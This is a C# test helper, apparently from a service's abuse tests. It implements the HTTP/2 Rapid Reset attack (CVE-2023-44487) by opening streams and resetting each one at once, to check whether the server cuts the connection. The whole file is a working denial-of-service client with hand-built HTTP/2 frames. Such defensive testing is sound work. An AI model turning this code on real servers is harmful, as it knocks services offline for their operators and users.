using System.Buffers.Binary;
using System.Net.Sockets;

namespace Lede.Service.Tests.Abuse;

/// <summary>Opens streams on an HTTP/2 connection and resets each at once, which cost servers a request each and themselves nothing (CVE-2023-44487).</summary>
internal sealed class Http2Attacker(Uri address) : IDisposable
{
    private const byte HeadersFrame = 1;
    private const byte ResetFrame = 3;
    private const byte SettingsFrame = 4;
    private const byte EndOfStreamAndHeaders = 5;

    private readonly TcpClient _client = new() { NoDelay = true };

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    /// <summary>Opens and resets so many streams, or as many as the server lets it.</summary>
    /// <returns>Whether the server ended the connection.</returns>
    public async Task<bool> ResetAsync(int streams)
    {
        await _client.ConnectAsync(address.Host, address.Port, Stop);
        var stream = _client.GetStream();
        // What the server says is read and thrown away, lest it wait for room.
        var ended = stream.CopyToAsync(Stream.Null, Stop);
        try
        {
            await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), Stop);
            await stream.WriteAsync(Frame(SettingsFrame, 0, 0, []), Stop);
            for (var i = 0; i < streams && !ended.IsCompleted; i++)
            {
                var id = 1 + 2 * i;
                await stream.WriteAsync((byte[])[.. Frame(HeadersFrame, EndOfStreamAndHeaders, id, Request()), .. Frame(ResetFrame, 0, id, [0, 0, 0, 8])], Stop);
            }
        }
        catch (IOException)
        {
            return true;
        }

        return ended.IsCompleted;
    }

    public void Dispose() => _client.Dispose();

    // :method GET, :scheme http, :path /article, :authority x, of the static table where it has them.
    private static byte[] Request() => [0x82, 0x86, 0x04, 8, .. "/article"u8, 0x01, 1, (byte)'x'];

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
